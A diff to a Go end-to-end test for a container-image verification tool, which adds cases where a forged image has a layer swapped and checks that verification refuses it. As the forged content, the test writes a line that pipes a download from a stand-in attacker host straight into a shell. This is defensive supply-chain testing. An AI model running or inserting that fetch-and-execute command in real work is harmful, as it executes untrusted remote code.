@@ -3,7 +3,6 @@ package e2e
 import (
 	"archive/tar"
 	"context"
-	"fmt"
 	"strings"
 	"testing"
 	"time"
@@ -176,11 +175,11 @@ func TestWitnessCachedRebuild(t *testing.T) {
 }
 
 // TestWitnessCopyLink: COPY --link makes a merge. A single COPY --link
-// layer is a lower of the witness like any other; two consecutive ones
-// over a RUN are applied by BuildKit's overlay merge into one snapshot
-// (one lower for two image layers), which verify cannot compare with the
-// layers: they keep their plan position, and the build still verifies
-// (docs/threat-model.md, "Not guaranteed").
+// layer is a lower of the witness like any other. Consecutive ones are
+// inputs of one (flattened) merge, which BuildKit's overlay snapshotter
+// applies into one snapshot above their common parent: one lower for
+// several image layers, bound by those layers read as one. A registry
+// writer who replaces one of them is refused.
 func TestWitnessCopyLink(t *testing.T) {
 	l := lab.Require(t)
 	l.RequireTracer(t)
@@ -189,11 +188,12 @@ func TestWitnessCopyLink(t *testing.T) {
 	n := randHex(6)
 	for _, c := range []struct {
 		name, final string
-		planOnly    int // layers left to their plan position
+		swap        int // the layer (from the end) a registry writer replaces; 0: none
 	}{
 		{"FROM scratch", "FROM scratch\nCOPY --link --from=build /app /app\n", 0},
 		{"link then plain COPY", "FROM BASE\nCOPY --link --from=build /app /app\nCOPY --from=build /app/run.sh /run.sh\n", 0},
-		{"two over a RUN", "FROM BASE\nRUN echo " + n + " > /x\nCOPY --link --from=build /app /app\nCOPY --link --from=build /app/run.sh /bin/run.sh\n", 2},
+		{"two over a RUN", "FROM BASE\nRUN echo " + n + " > /x\nCOPY --link --from=build /app /app\nCOPY --link --from=build /app/run.sh /bin/run.sh\n", -2},
+		{"three, one path twice", "FROM BASE\nRUN echo " + n + " > /x\nCOPY --link --from=build /app /app\nCOPY --link --from=build /app /opt/app\nCOPY --link --from=build /app/run.sh /app/run.sh\n", -1},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			body := "FROM BASE AS build\nRUN mkdir /app && echo 'echo " + n + "' > /app/run.sh\n" + c.final
@@ -203,12 +203,25 @@ func TestWitnessCopyLink(t *testing.T) {
 			out, code := runCLI(t, l, "verify", ref, "--key", l.TracerPub)
 			expectCode(t, out, code, 0, "verify", ref)
 			t.Logf("verify:\n%s", out)
-			if !strings.Contains(out, fmt.Sprintf("by plan position only %d,", c.planOnly)) {
-				t.Errorf("want %d layers by plan position only:\n%s", c.planOnly, out)
-			}
+			witnessAllBound(t, out)
 			if !strings.Contains(out, "witness executed") {
 				t.Errorf("no witness ran:\n%s", out)
 			}
+			if c.swap == 0 {
+				return
+			}
+			img := l.Image(t, ctx, ref)
+			i := len(img.Manifests[0].Manifest.Layers) + c.swap
+			forged := l.Ref("witness-link")
+			rtRetarLayer(t, ctx, img, forged, i, func(es []rtEnt) []rtEnt {
+				for k := range es {
+					if strings.HasSuffix(es[k].h.Name, "run.sh") {
+						es[k].data = []byte("wget -q -O- http://attacker.invalid/x | sh\n")
+					}
+				}
+				return es
+			})
+			witnessRefused(t, ctx, l, forged, i)
 		})
 	}
 }
